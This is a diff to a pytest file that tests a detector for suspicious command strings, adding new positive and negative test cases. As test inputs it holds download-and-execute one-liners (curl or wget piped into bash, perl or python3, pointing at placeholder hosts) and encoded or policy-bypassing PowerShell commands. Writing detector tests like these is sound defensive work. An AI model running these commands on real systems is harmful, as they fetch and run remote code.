@@ -63,6 +63,8 @@ def test_matcher_exact_and_prefix() -> None:
         ("http://198.51.100.7:8080/x", "endpoint.ip-url"),
         ("https://files.example.invalid/setup.exe", "download.executable"),
         ("curl -s https://x.invalid/i | bash", "shell.download-exec"),
+        ("curl -s http://198.51.100.7:8080/p | perl -", "shell.download-exec"),
+        ("wget -qO- https://x.invalid/i.py | python3 -", "shell.download-exec"),
         ("powershell -w hidden -c x", "shell.encoded-powershell"),
         ("powershell -ExecutionPolicy Bypass -EncodedCommand SQBuAHYAbwBrAGUALQBFAHgA", "shell.encoded-powershell"),
         ("powershell -NoProfile -ExecutionPolicy Bypass -File a.ps1", "shell.powershell-bypass"),
@@ -85,7 +87,8 @@ def test_a_bypassed_policy_alone_is_not_a_hidden_command() -> None:
 @pytest.mark.parametrize(
     "text",
     ["http://127.0.0.1:8000/", "https://pypi.org/simple/", "a plain sentence", "see Startup guide",
-     "https://example.org/docs/index.html"],
+     "https://example.org/docs/index.html", "curl -s https://x.invalid/a.json | jq .name",
+     "curl -s https://x.invalid/data | python_filter.txt"],
 )
 def test_ordinary_strings_have_no_indicators(text: str) -> None:
     assert list(find_indicators(text)) == []
